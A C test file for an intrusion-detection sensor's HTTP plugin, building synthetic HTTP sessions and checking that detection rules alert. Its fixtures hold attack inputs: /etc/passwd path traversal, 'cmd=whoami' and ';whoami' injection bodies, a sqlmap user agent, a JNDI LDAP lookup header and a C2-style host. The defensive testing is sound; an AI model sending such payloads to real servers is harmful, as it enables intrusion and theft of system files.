/*
 * test_http.c - the http plugin end to end: crafted captures of HTTP
 * sessions on any port (80, 8888, 8080 over IPv6), rules on each of its
 * buffers, and the exact alerts with their `http` objects; pipelined
 * requests paired with their responses, chunked bodies over several
 * segments, the body limit, gaps, a flow that is not HTTP, and the rule
 * errors init reports.
 */
#include <criterion/criterion.h>
#include <stdio.h>
#include <string.h>

#include "itest.h"

static struct itest t;

static const char conf_default[] = "plugins:\n  - name: signature\n  - name: http\n";

static const char rules[] =
	"rules:\n"
	"  - {id: 1, msg: passwd in uri, buffer: http.uri, patterns: [{content: /etc/passwd}]}\n"
	"  - {id: 2, msg: encoded dots, buffer: http.uri.raw, patterns: [{content: '%2e%2e'}]}\n"
	"  - {id: 3, msg: evil host, buffer: http.host, "
	"patterns: [{content: evil.test, depth: 9}]}\n"
	"  - {id: 4, msg: sqlmap, buffer: http.user_agent, patterns: [{content: sqlmap}]}\n"
	"  - {id: 5, msg: xff, buffer: http.header, patterns: [{content: 'X-Forwarded-For:'}]}\n"
	"  - {id: 6, msg: cmd body, buffer: http.request_body, patterns: [{content: cmd=whoami}]}\n"
	"  - {id: 7, msg: not found, buffer: http.status, patterns: [{content: '404'}]}\n"
	"  - {id: 8, msg: passwd leak, buffer: http.response_body, "
	"patterns: [{content: 'root:x:0:0'}]}\n"
	"  - {id: 9, msg: put, buffer: http.method, patterns: [{content: PUT, depth: 3}]}\n"
	"  - {id: 10, msg: after gap, buffer: http.uri, patterns: [{content: /after-gap}]}\n"
	"  - {id: 11, msg: before gap, buffer: http.uri, patterns: [{content: /first}]}\n";

static void begin(void)
{
	itest_begin(&t, SENSOR_BIN, "http");
	itest_config(&t, conf_default);
	itest_rules(&t, rules);
}

static void end(void)
{
	itest_end(&t);
}

TestSuite(http, .init = begin, .fini = end);

static void run_ok(void)
{
	cr_assert_eq(itest_run(&t, NULL), 0, "%s", t.res.err);
	cr_assert_eq(t.eve.bad_lines, 0);
}

static void send_str(struct pg_tcp *s, int dir, const char *text)
{
	pg_tcp_send(s, dir, text, strlen(text));
}

static const struct jr_val *alert(unsigned sid)
{
	char filter[64];
	const struct jr_val *a;

	snprintf(filter, sizeof(filter), "alert.signature_id=%u", sid);
	a = eve_find(&t.eve, filter, 0);
	cr_assert_not_null(a, "no alert %u", sid);
	return a;
}

static const char passwd[] = "root:x:0:0:root:/root:/bin/bash\n";

/* Session A, port 8888: traversal, evil host, sqlmap, leaked passwd. */
static uint64_t session_a(void)
{
	struct pg_tcp s;
	char resp[256];
	uint64_t req_frame;

	pg_tcp_init(&s, &t.gen, "198.18.0.10", 41000, "198.18.1.80", 8888);
	pg_tcp_handshake(&s);
	send_str(&s, PG_TO_SERVER,
		 "GET /a/./b/../..%2f..%2fetc/passwd HTTP/1.1\r\n"
		 "Host: Evil.Test:8888\r\n"
		 "User-Agent: sqlmap/1.7 (\"x\")\r\n"
		 "\r\n");
	req_frame = t.gen.frames;
	snprintf(resp, sizeof(resp), "HTTP/1.1 200 OK\r\nContent-Length: %zu\r\n\r\n%s",
		 strlen(passwd), passwd);
	send_str(&s, PG_TO_CLIENT, resp);
	pg_tcp_close(&s);
	return req_frame;
}

/* Session B, port 80: three pipelined requests in one segment. */
static void session_b(void)
{
	struct pg_tcp s;

	pg_tcp_init(&s, &t.gen, "198.18.0.11", 41001, "198.18.1.80", 80);
	pg_tcp_handshake(&s);
	send_str(&s, PG_TO_SERVER,
		 "GET /one HTTP/1.1\r\nHost: b.test\r\n\r\n"
		 "POST /two HTTP/1.1\r\nHost: b.test\r\nContent-Length: 10\r\n"
		 "X-Forwarded-For: 198.18.9.9\r\n\r\ncmd=whoami"
		 "PUT /%2e%2e/three HTTP/1.1\r\nHost: b.test\r\nContent-Length: 0\r\n\r\n");
	send_str(
		&s, PG_TO_CLIENT,
		"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
		"HTTP/1.1 404 Not Found\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nnope\r\n0\r\n\r\n"
		"HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n");
	pg_tcp_close(&s);
}

/* Session C, IPv6 port 8080: a chunked request body over three segments. */
static uint64_t session_c(void)
{
	struct pg_tcp s;
	uint64_t last;

	pg_tcp_init(&s, &t.gen, "2001:db8::10", 41002, "2001:db8::80", 8080);
	pg_tcp_handshake(&s);
	send_str(&s, PG_TO_SERVER,
		 "POST /api HTTP/1.1\r\nHost: [2001:DB8::80]:8080\r\n"
		 "Transfer-Encoding: chunked\r\n\r\n7\r\ncmd=who\r\n");
	send_str(&s, PG_TO_SERVER, "3\r\nam");
	send_str(&s, PG_TO_SERVER, "i\r\n0\r\n\r\n");
	last = t.gen.frames;
	send_str(&s, PG_TO_CLIENT, "HTTP/1.1 204 No Content\r\n\r\n");
	pg_tcp_close(&s);
	return last;
}

/* Session D, port 80: not HTTP. */
static void session_d(void)
{
	struct pg_tcp s;

	pg_tcp_init(&s, &t.gen, "198.18.0.12", 41003, "198.18.1.80", 80);
	pg_tcp_handshake(&s);
	send_str(&s, PG_TO_SERVER, "SSH-2.0-OpenSSH_9.6 /etc/passwd cmd=whoami\r\n");
	send_str(&s, PG_TO_CLIENT, "SSH-2.0-OpenSSH_9.6\r\n");
	pg_tcp_close(&s);
}

Test(http, sessions_on_any_port_alert_on_each_buffer)
{
	uint64_t a_req, c_last;

	itest_capture(&t, 1);
	a_req = session_a();
	session_b();
	c_last = session_c();
	session_d();
	run_ok();
	cr_expect_eq(itest_alerts(&t, 1), 1);
	cr_expect_eq(itest_alerts(&t, 2), 1);
	cr_expect_eq(itest_alerts(&t, 3), 1);
	cr_expect_eq(itest_alerts(&t, 4), 1);
	cr_expect_eq(itest_alerts(&t, 5), 1);
	cr_expect_eq(itest_alerts(&t, 6), 2);
	cr_expect_eq(itest_alerts(&t, 7), 1);
	cr_expect_eq(itest_alerts(&t, 8), 1);
	cr_expect_eq(itest_alerts(&t, 9), 1);
	cr_expect_eq(eve_count(&t.eve, "event_type=alert"), 10);
	cr_expect_eq(jr_int(alert(1), "pcap_cnt", 0), (int64_t)a_req);
	cr_expect_eq(jr_int(alert(1), "dest_port", 0), 8888);
	cr_expect_eq(jr_int(eve_find(&t.eve,
				     "alert.signature_id=6 "
				     "src_ip=2001:0db8:0000:0000:0000:0000:0000:0010",
				     0),
			    "pcap_cnt", 0),
		     (int64_t)c_last);
}

Test(http, request_alert_http_object)
{
	const struct jr_val *a, *h;
	static const char *const keys[] = {"hostname", "url", "http_user_agent", "http_method",
					   "protocol"};

	itest_capture(&t, 1);
	session_a();
	run_ok();
	a = alert(1);
	cr_expect_str_eq(jr_str(a, "http.hostname"), "evil.test");
	cr_expect_str_eq(jr_str(a, "http.url"), "/a/./b/../..%2f..%2fetc/passwd");
	cr_expect_str_eq(jr_str(a, "http.http_user_agent"), "sqlmap/1.7 (\"x\")");
	cr_expect_str_eq(jr_str(a, "http.http_method"), "GET");
	cr_expect_str_eq(jr_str(a, "http.protocol"), "HTTP/1.1");
	cr_expect_null(jr_get(a, "http.status"));
	cr_expect_null(jr_get(a, "http.length"));
	cr_expect_str_eq(jr_str(a, "app_proto"), "http");
	h = jr_get(a, "http");
	cr_assert_eq(h->n, 5);
	for (size_t i = 0; i < 5; i++)
		cr_expect_str_eq(h->keys[i], keys[i]);
	/* the host and user-agent alerts carry the same object */
	cr_expect_str_eq(jr_str(alert(3), "http.url"), "/a/./b/../..%2f..%2fetc/passwd");
	cr_expect_str_eq(jr_str(alert(4), "http.hostname"), "evil.test");
}

Test(http, response_alert_has_status_and_length)
{
	const struct jr_val *a;

	itest_capture(&t, 1);
	session_a();
	run_ok();
	a = alert(8);
	cr_expect_str_eq(jr_str(a, "http.hostname"), "evil.test");
	cr_expect_str_eq(jr_str(a, "http.url"), "/a/./b/../..%2f..%2fetc/passwd");
	cr_expect_str_eq(jr_str(a, "http.http_method"), "GET");
	cr_expect_eq(jr_int(a, "http.status", 0), 200);
	cr_expect_eq(jr_int(a, "http.length", 0), (int64_t)strlen(passwd));
	cr_expect_str_eq(jr_str(a, "direction"), "to_client");
	cr_expect_str_eq(jr_str(a, "src_ip"), "198.18.1.80");
}

Test(http, pipelined_responses_pair_with_their_requests)
{
	const struct jr_val *a;

	itest_capture(&t, 1);
	session_b();
	run_ok();
	a = alert(7); /* the 404 answers the second request */
	cr_expect_str_eq(jr_str(a, "http.url"), "/two");
	cr_expect_str_eq(jr_str(a, "http.http_method"), "POST");
	cr_expect_str_eq(jr_str(a, "http.hostname"), "b.test");
	cr_expect_eq(jr_int(a, "http.status", 0), 404);
	cr_expect_null(jr_get(a, "http.length")); /* chunked: unknown at the status */
	cr_expect_null(jr_get(a, "http.http_user_agent"));
	a = alert(9);
	cr_expect_str_eq(jr_str(a, "http.url"), "/%2e%2e/three");
	cr_expect_str_eq(jr_str(a, "http.http_method"), "PUT");
	cr_expect_str_eq(jr_str(alert(2), "http.url"), "/%2e%2e/three");
	cr_expect_str_eq(jr_str(alert(5), "http.url"), "/two");
	cr_expect_str_eq(jr_str(alert(6), "http.url"), "/two");
	cr_expect_eq(itest_alerts(&t, 1), 0); /* "/three" once normalised */
}

Test(http, chunked_body_over_segments_ipv6)
{
	const struct jr_val *a;

	itest_capture(&t, 1);
	session_c();
	run_ok();
	cr_assert_eq(itest_alerts(&t, 6), 1);
	a = alert(6);
	cr_expect_str_eq(jr_str(a, "http.hostname"), "[2001:db8::80]");
	cr_expect_str_eq(jr_str(a, "http.url"), "/api");
	cr_expect_str_eq(jr_str(a, "http.http_method"), "POST");
	cr_expect_eq(jr_int(a, "dest_port", 0), 8080);
}

Test(http, not_http_flow_is_ignored)
{
	itest_capture(&t, 1);
	session_d();
	run_ok();
	cr_expect_eq(eve_count(&t.eve, "event_type=alert"), 0);
}

Test(http, body_limit_bounds_inspection)
{
	struct pg_tcp s;
	const struct jr_val *a;

	itest_config(&t, "plugins:\n  - name: signature\n  - name: http\n"
			 "    options:\n      body-limit: 16\n");
	itest_capture(&t, 1);
	pg_tcp_init(&s, &t.gen, "198.18.0.13", 41004, "198.18.1.80", 80);
	pg_tcp_handshake(&s);
	send_str(&s, PG_TO_SERVER,
		 "POST /x HTTP/1.1\r\nContent-Length: 30\r\n\r\n0123456789abcdefcmd=whoami!!!!"
		 "GET /y HTTP/1.1\r\n\r\n");
	send_str(&s, PG_TO_CLIENT,
		 "HTTP/1.1 200 OK\r\nContent-Length: 40\r\n\r\n"
		 "root:x:0:0:root:/root:/bin/bash........."
		 "HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nabc");
	pg_tcp_close(&s);
	run_ok();
	cr_expect_eq(itest_alerts(&t, 6), 0); /* past the first 16 bytes */
	cr_assert_eq(itest_alerts(&t, 8), 1);
	a = alert(8);
	cr_expect_eq(jr_int(a, "http.length", 0), 40); /* Content-Length: cut before the end */
	cr_expect_str_eq(jr_str(a, "http.url"), "/x");
}

Test(http, gap_drops_the_message_and_resyncs)
{
	struct pg_tcp s;
	static const char lost[] = "st: x\r\n\r\n";

	itest_capture(&t, 1);
	pg_tcp_init(&s, &t.gen, "198.18.0.14", 41005, "198.18.1.80", 80);
	pg_tcp_handshake(&s);
	send_str(&s, PG_TO_SERVER, "GET /first HTTP/1.1\r\nHo");
	s.cseq += (uint32_t)strlen(lost); /* never captured */
	send_str(&s, PG_TO_SERVER, "GET /after-gap HTTP/1.1\r\nHost: gap.test\r\n\r\n");
	send_str(&s, PG_TO_CLIENT, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
	pg_tcp_close(&s);
	run_ok();
	cr_expect_eq(itest_alerts(&t, 11), 0);
	cr_assert_eq(itest_alerts(&t, 10), 1);
	cr_expect_str_eq(jr_str(alert(10), "http.hostname"), "gap.test");
}

Test(http, rule_without_buffer_is_an_init_error)
{
	itest_rules(&t, "rules:\n"
			"  - {id: 1, msg: uri, buffer: http.uri, patterns: [{content: a}]}\n"
			"  - {id: 77, msg: nobuf, detector: http, patterns: [{content: a}]}\n");
	run_sensor(&t.res, SENSOR_BIN, "-T", "-c", t.conf, "-S", t.rules, NULL);
	cr_expect_neq(t.res.status, 0);
	cr_expect(strstr(t.res.err, "rule 77 (") != NULL, "%s", t.res.err);
	cr_expect(strstr(t.res.err, ":3): the http plugin matches rules on its buffers only: "
				    "add `buffer:`") != NULL,
		  "%s", t.res.err);
}

/* rules/http.yaml as shipped: each rule fires once on the session made
 * for it. */
Test(http, shipped_rules_fire)
{
	static const char body[] = "ip=1;whoami";
	static const char leak[] = "root:x:0:0:root:/root:/bin/bash\n";
	char path[4096], text[65536], req[1024], resp[1024];
	struct pg_tcp s;
	size_t n;
	FILE *f;

	snprintf(path, sizeof(path), "%s/rules/http.yaml", SOURCE_DIR);
	f = fopen(path, "r");
	cr_assert_not_null(f);
	n = fread(text, 1, sizeof(text) - 1, f);
	fclose(f);
	text[n] = '\0';
	itest_rules(&t, text);
	itest_capture(&t, 1);
	pg_tcp_init(&s, &t.gen, "198.18.0.15", 41006, "198.18.1.80", 8000);
	pg_tcp_handshake(&s);
	snprintf(req, sizeof(req),
		 "GET /cgi-bin/%%2e%%2e/%%2e%%2e/etc/passwd HTTP/1.1\r\nHost: c2.duckdns.org\r\n"
		 "User-Agent: sqlmap/1.7\r\nX-Api-Version: ${jndi:ldap://198.18.5.5/a}\r\n\r\n"
		 "POST /ping HTTP/1.1\r\nHost: 198.18.1.80\r\nContent-Length: %zu\r\n\r\n%s"
		 "TRACE / HTTP/1.1\r\nHost: x\r\n\r\n",
		 strlen(body), body);
	send_str(&s, PG_TO_SERVER, req);
	snprintf(resp, sizeof(resp),
		 "HTTP/1.1 200 OK\r\nContent-Length: %zu\r\n\r\n%s"
		 "HTTP/1.1 500 Internal Server Error\r\nContent-Length: 0\r\n\r\n"
		 "HTTP/1.1 405 Not Allowed\r\nContent-Length: 0\r\n\r\n",
		 strlen(leak), leak);
	send_str(&s, PG_TO_CLIENT, resp);
	pg_tcp_close(&s);
	run_ok();
	for (unsigned sid = 3100001; sid <= 3100009; sid++)
		cr_expect_eq(itest_alerts(&t, sid), 1, "rule %u", sid);
	cr_expect_eq(eve_count(&t.eve, "event_type=alert"), 9);
	cr_expect_str_eq(jr_str(alert(3100009), "http.url"), "/ping");
	cr_expect_eq(jr_int(alert(3100009), "http.status", 0), 500);
	cr_expect_str_eq(jr_str(alert(3100005), "http.hostname"), "c2.duckdns.org");
}

/* A response to HEAD has no body even with a Content-Length, and a 100
 * Continue does not use up the request it answers. */
Test(http, head_and_continue_keep_pairing)
{
	struct pg_tcp s;
	char resp[512];
	const struct jr_val *a;

	itest_capture(&t, 1);
	pg_tcp_init(&s, &t.gen, "198.18.0.16", 41007, "198.18.1.80", 80);
	pg_tcp_handshake(&s);
	send_str(&s, PG_TO_SERVER,
		 "HEAD /h HTTP/1.1\r\nHost: h.test\r\n\r\n"
		 "POST /p HTTP/1.1\r\nHost: h.test\r\nExpect: 100-continue\r\n"
		 "Content-Length: 10\r\n\r\n");
	send_str(&s, PG_TO_CLIENT, "HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n");
	send_str(&s, PG_TO_CLIENT, "HTTP/1.1 100 Continue\r\n\r\n");
	send_str(&s, PG_TO_SERVER, "cmd=whoami");
	snprintf(resp, sizeof(resp), "HTTP/1.1 404 Not Found\r\nContent-Length: %zu\r\n\r\n%s",
		 strlen(passwd), passwd);
	send_str(&s, PG_TO_CLIENT, resp);
	pg_tcp_close(&s);
	run_ok();
	cr_assert_eq(itest_alerts(&t, 6), 1);
	cr_assert_eq(itest_alerts(&t, 7), 1);
	cr_assert_eq(itest_alerts(&t, 8), 1);
	cr_expect_str_eq(jr_str(alert(6), "http.url"), "/p");
	a = alert(8);
	cr_expect_str_eq(jr_str(a, "http.url"), "/p");
	cr_expect_str_eq(jr_str(a, "http.http_method"), "POST");
	cr_expect_eq(jr_int(a, "http.status", 0), 404);
	cr_expect_eq(jr_int(a, "http.length", 0), (int64_t)strlen(passwd));
	cr_expect_str_eq(jr_str(alert(7), "http.url"), "/p");
}

/* `len` bytes of `text` in segments of `seg` bytes, each acknowledged (so
 * that long transfers stay within the receiver's window). */
static void send_segments(struct pg_tcp *s, int dir, const char *text, size_t len, size_t seg)
{
	for (size_t at = 0; at < len; at += seg) {
		pg_tcp_send(s, dir, text + at, len - at < seg ? len - at : seg);
		pg_tcp_segment(s, !dir, 0x10, 0, NULL, 0); /* ACK */
	}
}

/* A request head of exactly `total` bytes: start line, Host, X-Pad lines
 * of at most 100 bytes, blank line. */
static size_t big_head(char *out, size_t total, const char *uri, const char *host)
{
	size_t n = (size_t)sprintf(out, "GET %s HTTP/1.1\r\nHost: %s\r\n", uri, host);

	while (n + 2 < total) {
		size_t left = total - n - 2, line = left >= 200 ? 100 : left;

		memcpy(out + n, "X-Pad: ", 7);
		memset(out + n + 7, 'a', line - 9);
		memcpy(out + n + line - 2, "\r\n", 2);
		n += line;
	}
	memcpy(out + n, "\r\n", 2);
	return n + 2;
}

/* A head of exactly 8 KiB over 83 segments is parsed and its alerts carry
 * its fields; one byte more is head_too_long, and the next request is
 * parsed. */
Test(http, head_over_many_segments_up_to_the_limit)
{
	static char head[8200];
	static const char ok[] = "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n";
	struct pg_tcp s;
	size_t n;

	itest_capture(&t, 1);
	pg_tcp_init(&s, &t.gen, "198.18.0.17", 41008, "198.18.1.80", 80);
	pg_tcp_handshake(&s);
	n = big_head(head, 8192, "/etc/passwd", "Evil.Test");
	send_segments(&s, PG_TO_SERVER, head, n, 100);
	send_str(&s, PG_TO_CLIENT, ok);
	n = big_head(head, 8193, "/first", "over.test");
	send_segments(&s, PG_TO_SERVER, head, n, 100);
	send_str(&s, PG_TO_SERVER, "GET /after-gap HTTP/1.1\r\nHost: next.test\r\n\r\n");
	send_str(&s, PG_TO_CLIENT, ok);
	pg_tcp_close(&s);
	cr_assert_eq(itest_run(&t, "-v", NULL), 0, "%s", t.res.err);
	cr_expect(strstr(t.res.err, "http: 1 flows, 2 requests, 2 responses (0 without a request, "
				    "0 pairings lost), "
				    "0 flows not HTTP, 0 out of memory; parse errors: "
				    "head_too_long=1 request_line=0") != NULL,
		  "%s", t.res.err);
	cr_assert_eq(itest_alerts(&t, 1), 1);
	cr_assert_eq(itest_alerts(&t, 3), 1);
	cr_expect_eq(itest_alerts(&t, 11), 0);
	cr_assert_eq(itest_alerts(&t, 10), 1);
	cr_expect_str_eq(jr_str(alert(1), "http.hostname"), "evil.test");
	cr_expect_str_eq(jr_str(alert(1), "http.url"), "/etc/passwd");
	cr_expect_str_eq(jr_str(alert(10), "http.hostname"), "next.test");
}

/* Ten pipelined requests: the queue holds eight; the responses to the
 * last two still come in order and carry no request fields. */
Test(http, requests_past_the_queue_pair_in_order)
{
	static const char not_found[] = "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n";
	char reqs[1024], url[16];
	struct pg_tcp s;
	size_t n = 0;

	itest_capture(&t, 1);
	pg_tcp_init(&s, &t.gen, "198.18.0.18", 41009, "198.18.1.80", 80);
	pg_tcp_handshake(&s);
	for (int i = 0; i < 10; i++)
		n += (size_t)snprintf(
			reqs + n, sizeof(reqs) - n,
			"GET /q%d HTTP/1.1\r\nHost: q.test\r\nUser-Agent: ua%d\r\n\r\n", i, i);
	send_segments(&s, PG_TO_SERVER, reqs, n, 61);
	for (int i = 0; i < 10; i++)
		send_str(&s, PG_TO_CLIENT, not_found);
	pg_tcp_close(&s);
	cr_assert_eq(itest_run(&t, "-v", NULL), 0, "%s", t.res.err);
	cr_expect(strstr(t.res.err, "http: 1 flows, 10 requests, 10 responses (0 without a "
				    "request, 0 pairings lost)") != NULL,
		  "%s", t.res.err);
	cr_assert_eq(itest_alerts(&t, 7), 10);
	for (size_t i = 0; i < 10; i++) {
		const struct jr_val *a = eve_find(&t.eve, "alert.signature_id=7", i);

		cr_assert_not_null(a);
		cr_expect_eq(jr_int(a, "http.status", 0), 404);
		cr_expect_str_eq(jr_str(a, "http.protocol"), "HTTP/1.1");
		if (i >= 8) {
			cr_expect_null(jr_get(a, "http.url"), "response %zu", i);
			cr_expect_null(jr_get(a, "http.hostname"), "response %zu", i);
			continue;
		}
		snprintf(url, sizeof(url), "/q%zu", i);
		cr_expect_str_eq(jr_str(a, "http.url"), url);
		cr_expect_str_eq(jr_str(a, "http.hostname"), "q.test");
	}
}

/* Response bodies over many segments: chunked (its buffer grows as it
 * comes), longer than body-limit (scanned at the limit, twice) and running
 * to the end of the stream; a pattern at the end of what is inspected is
 * found, one across the limit is not. */
Test(http, bodies_over_many_segments)
{
	static char body[70000];
	char head[128];
	struct pg_tcp s;
	size_t n = 0;

	itest_config(&t, "plugins:\n  - name: signature\n  - name: http\n"
			 "    options:\n      body-limit: 20000\n");
	itest_capture(&t, 1);
	pg_tcp_init(&s, &t.gen, "198.18.0.19", 41010, "198.18.1.80", 80);
	pg_tcp_handshake(&s);
	send_str(&s, PG_TO_SERVER,
		 "GET /chunked HTTP/1.1\r\n\r\nGET /long HTTP/1.1\r\n\r\n"
		 "GET /short HTTP/1.1\r\n\r\nGET /eof HTTP/1.0\r\n\r\n");
	/* 19 chunks of 1000 bytes, the last with the passwd line at its end */
	send_str(&s, PG_TO_CLIENT, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n");
	memset(body, '.', sizeof(body));
	memcpy(body + 1000 - strlen(passwd), passwd, strlen(passwd));
	for (int i = 0; i < 19; i++) {
		send_str(&s, PG_TO_CLIENT, "3e8\r\n");
		send_segments(&s, PG_TO_CLIENT, i == 18 ? body : body + 1000, 1000, 300);
		send_str(&s, PG_TO_CLIENT, "\r\n");
	}
	send_str(&s, PG_TO_CLIENT, "0\r\n\r\n");
	/* 70000 bytes: "root:x:0:0" ends at the limit; then 20040 bytes where
	 * it straddles the limit (not found) */
	memset(body, '.', sizeof(body));
	memcpy(body + 20000 - 10, passwd, strlen(passwd));
	send_str(&s, PG_TO_CLIENT, "HTTP/1.1 200 OK\r\nContent-Length: 70000\r\n\r\n");
	send_segments(&s, PG_TO_CLIENT, body, sizeof(body), 1400);
	memset(body, '.', sizeof(body));
	memcpy(body + 20000 - 5, passwd, strlen(passwd));
	n = (size_t)snprintf(head, sizeof(head), "HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n",
			     20040);
	send_segments(&s, PG_TO_CLIENT, head, n, n);
	send_segments(&s, PG_TO_CLIENT, body, 20040, 1400);
	/* to the end of the stream: 9000 bytes */
	memset(body, '.', sizeof(body));
	memcpy(body + 9000 - strlen(passwd), passwd, strlen(passwd));
	send_str(&s, PG_TO_CLIENT, "HTTP/1.0 200 OK\r\n\r\n");
	send_segments(&s, PG_TO_CLIENT, body, 9000, 1400);
	pg_tcp_close(&s);
	cr_assert_eq(itest_run(&t, "-v", NULL), 0, "%s", t.res.err);
	cr_expect(strstr(t.res.err,
			 "http: 1 flows, 4 requests, 4 responses (0 without a request, 0 pairings "
			 "lost), "
			 "0 flows not HTTP, 0 out of memory; parse errors: "
			 "head_too_long=0 request_line=0 status_line=0 header_line=0 "
			 "content_length=0 chunk=0 cl_and_te=0 gap=0 truncated=0") != NULL,
		  "%s", t.res.err);
	cr_assert_eq(itest_alerts(&t, 8), 3);
	cr_expect_str_eq(jr_str(eve_find(&t.eve, "alert.signature_id=8", 0), "http.url"),
			 "/chunked");
	cr_expect_eq(jr_int(eve_find(&t.eve, "alert.signature_id=8", 0), "http.length", 0), 19000);
	cr_expect_str_eq(jr_str(eve_find(&t.eve, "alert.signature_id=8", 1), "http.url"), "/long");
	cr_expect_eq(jr_int(eve_find(&t.eve, "alert.signature_id=8", 1), "http.length", 0), 70000);
	cr_expect_str_eq(jr_str(eve_find(&t.eve, "alert.signature_id=8", 2), "http.url"), "/eof");
	cr_expect_eq(jr_int(eve_find(&t.eve, "alert.signature_id=8", 2), "http.length", 0), 9000);
}
